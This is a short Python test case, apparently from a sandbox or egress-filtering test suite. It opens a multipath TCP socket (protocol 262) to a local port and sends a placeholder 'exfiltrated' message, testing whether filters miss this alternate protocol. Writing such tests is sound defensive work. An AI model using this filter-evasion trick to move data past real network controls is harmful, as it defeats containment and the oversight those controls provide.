"""Connect by multipath TCP, another protocol number for the same thing."""

import socket

FAMILY = "network"
NOT_NAIVE = "Not every kernel has multipath TCP."
IPPROTO_MPTCP = 262


def attack(world):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP) as out:
        out.connect(("127.0.0.1", world["tcp"]))
        out.sendall(b"exfiltrated")
    return "sent"
